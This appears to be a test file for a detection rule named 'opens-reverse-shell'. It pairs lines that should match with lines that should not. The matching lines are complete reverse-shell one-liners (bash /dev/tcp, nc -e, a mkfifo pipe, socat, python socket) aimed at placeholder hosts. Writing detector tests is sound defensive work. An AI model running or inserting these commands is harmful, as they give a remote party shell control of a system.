# ruleid: opens-reverse-shell
bash -i >& /dev/tcp/collector.invalid/4444 0>&1
# ruleid: opens-reverse-shell
exec 5<>/dev/tcp/192.0.2.1/443
# ruleid: opens-reverse-shell
nc -e /bin/sh collector.invalid 4444
# ruleid: opens-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc collector.invalid 4444 > /tmp/f
# ruleid: opens-reverse-shell
socat tcp:collector.invalid:4444 exec:/bin/sh
# ruleid: opens-reverse-shell
python3 -c 'import socket,os;s=socket.socket();s.connect(("collector.invalid",1));os.dup2(s.fileno(),0)'

# ok: opens-reverse-shell
nc -z localhost 5432
# ok: opens-reverse-shell
bash -i
# ok: opens-reverse-shell
ls /dev/tcpdump
# ruleid: opens-reverse-shell
exec 9<>"/dev/tcp/$host/$port"
# ok: opens-reverse-shell
exec 9<>"/dev/shm/$name"
